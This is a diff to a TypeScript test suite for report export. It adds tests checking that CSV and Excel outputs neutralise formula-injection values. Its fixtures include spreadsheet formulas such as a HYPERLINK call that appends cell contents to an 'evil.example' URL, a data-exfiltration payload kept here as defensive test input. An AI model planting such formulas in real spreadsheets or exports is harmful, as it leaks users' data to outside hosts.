@@ -7,7 +7,7 @@ import { createBrowserProvider, type BrowserProvider } from '../../activities/re
 import { renderReport, sanitizeSheetName, type RenderReportDeps } from '../../activities/reports/render-report';
 import type { ReportContent, ReportSection } from '../../domain/reports/report-content';
 import { escapeHtml, renderReportHtml, reportPageOrientation } from '../../domain/reports/report-html';
-import { loadConfig } from '../../config/config';
+import { resolveChromium } from '../../infra/chromium';
 
 const HOSTILE = [
   '=HYPERLINK("http://evil.example/?x="&A1,"click")',
@@ -197,7 +197,7 @@ describe('report rendering', function () {
     let server: Awaited<ReturnType<typeof startCountingServer>>;
 
     before(async () => {
-      browser = createBrowserProvider({ executablePath: loadConfig({}).chromium.path });
+      browser = createBrowserProvider({ chromium: () => resolveChromium() });
       server = await startCountingServer();
     });
     after(async () => {
@@ -278,11 +278,11 @@ describe('report rendering', function () {
     });
 
     it('close() is idempotent and final', async () => {
-      const own = createBrowserProvider({ executablePath: loadConfig({}).chromium.path });
+      const own = createBrowserProvider({ chromium: () => resolveChromium() });
       await own.close(); // never launched
       const b = await own.withPage(async () => 1).catch((e: Error) => e);
       assert.ok(b instanceof Error && b.name === 'BrowserProviderClosedError');
-      const other = createBrowserProvider({ executablePath: loadConfig({}).chromium.path });
+      const other = createBrowserProvider({ chromium: () => resolveChromium() });
       const launched = await other.withPage(async (page) => page.context().browser());
       await other.close();
       await other.close();
@@ -313,6 +313,15 @@ describe('report rendering', function () {
       assert.deepEqual(records.slice(6 + HOSTILE.length), [['Intakes'], ['Intake', 'Status'], ['']]);
     });
 
+    it('neutralizes fields starting with = + - @ tab CR or NUL, and leaves others alone', async () => {
+      const starts = ['=1+1', '+1', '-1:83dfd552e63729b472fcbccc45ebcc6691702558b68ec7527e1ba403a0f31a8b', '@x', '\tx', '\rx', '\0x'];
+      const plain = ['x=1', 'TJRyWwFs9wTFGZg3JbrVriFbNfCug5tDeC', ' =1', ''];
+      const rows = [...starts, ...plain].map((v) => ({ v }));
+      const csv = await renderReport(content({ sections: [{ ...intakes(), columns: [{ key: 'v', label: 'Value' }], rows }] }), 'csv', NO_BROWSER);
+      const records = parseCsv(csv.subarray(3).toString('utf8'));
+      assert.deepEqual(records.slice(2, -1).map((r) => r[0]), [...starts.map((v) => `'${v}`), ...plain]);
+    });
+
     it('neutralizes titles and labels too', async () => {
       const csv = await renderReport(
         content({ sections: [{ ...intakes(), title: '=1+1', columns: [{ key: 'a', label: '@x' }] }] }),
@@ -332,7 +341,7 @@ describe('report rendering', function () {
       return workbook;
     }
 
-    it('has a Summary sheet and one sheet per section with bold frozen headers and safe cells', async () => {
+    it('has a Summary sheet and one sheet per section with bold frozen headers and hostile text as plain strings', async () => {
       const workbook = await readBack(content());
       assert.deepEqual(workbook.worksheets.map((s) => s.name), ['Summary', 'Wallets', 'Intakes']);
       assert.equal(workbook.created.toISOString(), '2025-03-31T09:00:04.000Z');
@@ -358,8 +367,9 @@ describe('report rendering', function () {
       assert.equal(sheet.getCell('E2').value, null);
       assert.equal(sheet.getCell('E3').value, 'Привет, мир 🚀 — naïve café');
       const notes = HOSTILE.map((_h, i) => sheet.getCell(`E${4 + i}`).value);
-      // Line breaks in cells are LF: the CR-prefixed value reads back as "'\nCR".
-      assert.deepEqual(notes, HOSTILE.map((h) => `'${h.replace('\r', '\n')}`));
+      // String cells keep their value (no apostrophe); line breaks in cells are LF: "\rCR" reads back as "\nCR".
+      assert.deepEqual(notes, HOSTILE.map((h) => h.replace('\r', '\n')));
+      for (let i = 0; i < HOSTILE.length; i++) assert.equal(sheet.getCell(`E${4 + i}`).formula, undefined);
       for (let i = 1; i <= 5; i++) {
         const width = sheet.getColumn(i).width ?? 9; // ExcelJS omits a width equal to its default, 9
         assert.ok(width >= 8 && width <= 60, `column ${i} width ${width}`);
@@ -368,6 +378,29 @@ describe('report rendering', function () {
       const empty = workbook.getWorksheet('Intakes')!;
       assert.equal(empty.rowCount, 1);
       assert.deepEqual(rowValues(empty, 1, 2), ['Intake', 'Status']);
+    });
+
+    it('stores formula-like text byte-identical as string cells, never formulas, in cells, labels and the summary', async () => {
+      const ton = '-1:83dfd552e63729b472fcbccc45ebcc6691702558b68ec7527e1ba403a0f31a8b';
+      const texts = [ton, '=1+1', '+1', '@SUM(A1:A2)', '\tTAB', '=HYPERLINK("http://evil.example/","x")'];
+      const section: ReportSection = {
+        entityType: 'wallet',
+        title: 'Wallets',
+        columns: [{ key: 'address', label: '=1+1' }],
+        rows: texts.map((address) => ({ address })),
+        emptyNote: '-none-',
+      };
+      const workbook = await readBack(content({ title: '=1+1', scopeSummary: ton, sections: [section] }));
+      const sheet = workbook.getWorksheet('Wallets')!;
+      const cells = [sheet.getCell('A1'), ...texts.map((_t, i) => sheet.getCell(`A${2 + i}`))];
+      assert.deepEqual(cells.map((c) => c.value), ['=1+1', ...texts]);
+      const summary = workbook.getWorksheet('Summary')!;
+      cells.push(summary.getCell('B1'), summary.getCell('B5'));
+      assert.deepEqual([summary.getCell('B1').value, summary.getCell('B5').value], ['=1+1', ton]);
+      for (const cell of cells) {
+        assert.equal(cell.type, ExcelJS.ValueType.String, `${cell.address} is a string cell`);
+        assert.equal(cell.formula, undefined, `${cell.address} has no formula`);
+      }
     });
 
     it('gives sections valid, unique sheet names', async () => {
